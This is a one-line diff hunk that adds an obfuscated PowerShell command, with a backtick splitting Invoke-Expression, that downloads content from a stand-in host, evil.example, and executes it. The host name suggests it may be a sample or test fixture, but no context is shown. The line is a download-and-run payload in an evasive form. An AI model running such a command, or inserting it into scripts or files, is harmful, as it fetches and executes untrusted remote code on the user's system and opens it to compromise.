@@ -1,0 +1,1 @@
+Invoke-Ex`pression (Invoke-WebRequest https://evil.example/a).Content
